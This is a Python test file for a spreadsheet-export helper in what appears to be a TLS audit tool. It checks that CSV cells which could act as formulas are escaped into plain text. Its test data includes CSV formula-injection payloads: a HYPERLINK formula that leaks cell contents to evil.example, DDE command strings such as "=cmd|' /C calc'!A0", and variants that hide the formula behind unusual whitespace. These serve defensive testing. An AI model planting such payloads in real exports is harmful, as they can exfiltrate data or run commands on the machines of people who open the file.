"""CSV cells a spreadsheet shows rather than runs (tlsaudit/domain/spreadsheet.py), as tables."""

import pytest

from tlsaudit.domain.spreadsheet import cell_text

DDE = "=cmd|' /C calc'!A0"


@pytest.mark.parametrize("value, written", [
    ('=HYPERLINK("http://evil.example/?leak="&A1,"click")', '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")'),
    ("+1+cmd", "'+1+cmd"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("\nfoo", "'\nfoo"),
    ("   =1+1", "'   =1+1"),                    # leading spaces are trimmed by some importers
    ("\u00a0\u3000=1+1", "'\u00a0\u3000=1+1"),  # no-break and ideographic spaces
    ("\u200b=1+1", "'\u200b=1+1"),              # a zero-width space in front
    ("\uff1d1+1", "'\uff1d1+1"),                # fullwidth =
    (DDE, "'=cmd\\|' /C calc'!A0"),             # the pipe escaped too: DDE stays broken if the ' is lost
    ("@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd\\|' /C calc'!A0"),
    ("|calc", "'\\|calc"),
    ("%0A=1", "'%0A=1"),
    ("-", "'-"),
    ("-inf", "'-inf"),
])
def test_formulas_are_written_as_text(value, written):
    assert cell_text(value) == written


@pytest.mark.parametrize("value, written", [
    (-12.5, "-12.5"),            # a signed overhead: still a number
    ("-12.5", "-12.5"),
    ("+3", "+3"),
    (0, "0"),
    (1e-05, "1e-05"),
    ("-1.5E+3", "-1.5E+3"),
    ("-12.5%", "-12.5%"),
    (".5", ".5"),
    (None, ""),
    (True, "True"),
    ("nginx/1.22.1", "nginx/1.22.1"),
    ("Shop | Production", "Shop | Production"),   # a pipe inside a name runs nothing
    ("a=b", "a=b"),
    ("x@example.com", "x@example.com"),
])
def test_numbers_and_plain_text_are_written_as_they_are(value, written):
    assert cell_text(value) == written


@pytest.mark.parametrize("value", ["-1 2", "-12.5 ", "- 12", "-12..5", "-0x10", "-1e", "-١٢", "-12,5"])
def test_almost_numbers_are_not_numbers(value):
    assert cell_text(value) == "'" + value
